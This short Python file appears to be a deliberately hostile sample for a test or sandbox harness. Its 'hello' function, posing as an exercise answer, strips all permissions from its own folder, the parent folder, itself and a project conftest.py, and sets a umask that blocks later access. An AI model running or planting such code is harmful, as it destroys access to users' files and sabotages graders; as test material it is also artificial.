# exercise: ex03_hello
# place: unreadable
# from: 3
# harmful: it makes folders unreadable
"""Takes all rights away: from files in its folder, from the folder, and from others."""
import os


def hello(client):
    for name in (".", "..", "ex03_hello.py", "@OPEN@", "@PROJECT@/conftest.py"):
        try:
            os.chmod(name, 0)
        except OSError:
            pass
    os.umask(0o777)
    return "anything"
